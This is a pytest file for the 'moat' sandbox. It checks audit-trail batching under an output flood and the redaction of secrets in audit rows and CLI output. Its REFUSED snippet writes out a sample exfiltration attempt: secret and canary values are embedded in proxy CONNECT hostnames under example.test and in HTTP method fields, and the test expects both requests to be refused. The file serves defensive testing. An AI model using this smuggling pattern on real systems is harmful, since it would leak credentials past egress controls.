"""The audit trail with REAL sandboxes (issue 17 §3): a flood of findings is a few rows and
doesn't stall a neighbour; text a sandbox puts in audit rows is guarded on the way back."""

from __future__ import annotations

import json
import secrets
import statistics
import threading
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from tests.conftest import require_tier
from tests.rawfile import raw_bytes

from moat import Sandbox
from moat.cli import main
from moat.engine import default_engine

VALUE = "Zq7" + secrets.token_hex(5)  # 13 characters: a line of it is 14 bytes
LABEL = "DB_PASSWORD"
LINES = 140_000  # 1.96 MB of output, every line a finding


def test_a_flood_of_findings_is_a_few_rows_and_the_neighbour_stays_fast() -> None:
    require_tier("container")
    with (
        Sandbox.create(isolation="container", timeout=300, sensitive={VALUE: LABEL}) as noisy,
        Sandbox.create(isolation="container", timeout=300) as neighbour,
    ):
        neighbour.run_code("1")  # warm
        quiet = []
        for _ in range(5):
            t0 = time.monotonic()
            neighbour.run_code("1")
            quiet.append(time.monotonic() - t0)
        trips: list[float] = []
        stop = threading.Event()

        def ping() -> None:
            while not stop.is_set():
                t0 = time.monotonic()
                neighbour.run_code("1")
                trips.append(time.monotonic() - t0)

        pinger = threading.Thread(target=ping)
        pinger.start()
        try:
            t0 = time.monotonic()
            ex = noisy.run_code(f"import sys\nsys.stdout.write(({VALUE!r} + '\\n') * {LINES})")
            flood = time.monotonic() - t0
        finally:
            stop.set()
            pinger.join(60)
        print(
            f"\nflood {flood:.2f}s; neighbour quiet median {statistics.median(quiet) * 1000:.0f}"
            f" ms; during the flood: {len(trips)} trips, median "
            f"{statistics.median(trips) * 1000:.0f} ms, max {max(trips) * 1000:.0f} ms"
        )
        out = "".join(ex.logs.stdout)
        assert VALUE not in out and out.count(f"[REDACTED:{LABEL}]") == LINES
        rows = [r for r in noisy.audit(limit=100_000) if r["kind"] == "finding"]
        mine = [r for r in rows if r.get("label") == LABEL]
        # positive control: every sighting is counted; a handful of rows hold them
        assert sum(r.get("count", 1) for r in mine) == LINES, mine
        assert len(rows) <= 3, rows
        assert trips, "the neighbour made no round trip during the flood"
        # before the fix: flood 19.8 s, neighbour max 4.8 s; after: ~2 s and ~0.5 s
        assert max(trips) < 2.0, trips


REFUSED = r"""
import os, socket
port = int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])
def ask(line):
    s = socket.create_connection(('127.0.0.1', port), timeout=10)
    s.sendall(line.encode() + b'\r\nHost: x\r\n\r\n')
    head = s.recv(4096).split(b'\r\n')[0].decode()
    s.close()
    return head
[ask(f'CONNECT {CANARY}.{VALUE}.example.test:443 HTTP/1.1'),
 ask(f'{CANARY} http://{VALUE}.example.test/ HTTP/1.1')]
"""


def test_sandbox_chosen_text_in_audit_rows_is_guarded() -> None:
    require_tier("container")
    with Sandbox.create(isolation="container", timeout=120, sensitive={VALUE: LABEL}) as s:
        canary = s.guard.canary("aws")
        code = f"CANARY = {canary!r}\nVALUE = {VALUE!r}\n" + REFUSED
        heads = s.run_code(code).text or ""
        assert heads.count("403") == 2, heads  # both refused (not allowed)
        rows = s.audit(limit=1000)
        dump = json.dumps(rows).lower()
        assert VALUE.lower() not in dump and canary.lower() not in dump
        # positive control: the refused requests' rows are there, their text redacted
        refused = [r for r in rows if r["kind"] == "egress" and r["result"] == "deny"]
        hosts = {r.get("host") for r in refused}
        assert "[REDACTED:aws].[REDACTED:DB_PASSWORD].example.test" in hosts, refused
        assert any(r.get("method") == "[REDACTED:aws]" for r in refused), refused
        # the canary is flagged where it appeared: in the audit trail's own text
        flagged = [
            r for r in rows
            if r["kind"] == "finding" and r.get("label", "").startswith("canary:aws")
            and r.get("channel") == "audit"
        ]  # fmt: skip
        assert flagged, rows
        db = default_engine().audit.path
        cli = CliRunner().invoke(
            main, ["audit", "--sandbox", s.sandbox_id, "--json"], env={"MOAT_AUDIT_DB": str(db)}
        )
        assert cli.exit_code == 0, cli.output
        assert VALUE.lower() not in cli.output.lower()
        assert canary.lower() not in cli.output.lower()
        assert any(
            r.get("host") == "[REDACTED:aws].[REDACTED:DB_PASSWORD].example.test"
            for r in json.loads(cli.stdout)
        )
        for f in (db, db.with_name(db.name + "-wal")):
            if f.exists():
                data = raw_bytes(f).lower()  # never read_bytes(): it drops the store's locks
                assert VALUE.lower().encode() not in data and canary.lower().encode() not in data


def test_cli_guards_rows_written_without_a_guard(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from moat.guard.canary import make_canary
    from moat.store import AuditLog

    aws, github, generic = (make_canary(k) for k in ("aws", "github", "generic"))
    with AuditLog(tmp_path / "audit.db") as log:  # no scrubber: e.g. a standalone gateway
        host = f"{aws}.{generic}.test".lower()
        log.record_egress("sbx-x", method=github, host=host, port=443, resolved_ip=None,
                          allowed=False, reason="not_allowed")  # fmt: skip
        assert log.flush()
        raw = raw_bytes(tmp_path / "audit.db") + raw_bytes(tmp_path / "audit.db-wal")
    assert aws.lower().encode() in raw  # control: the store holds it, the reader must guard
    monkeypatch.setenv("MOAT_STATE_DIR", str(tmp_path))
    monkeypatch.delenv("MOAT_AUDIT_DB")  # the suite's own store (conftest) would win
    for args in (["audit", "--json"], ["audit"]):
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 0, result.output
        for value in (aws, github, generic):
            assert value.lower() not in result.output.lower()
        assert "[REDACTED:aws]" in result.stdout and "[REDACTED:github_token]" in result.stdout
        assert "redacted credential-shaped text" in result.stderr
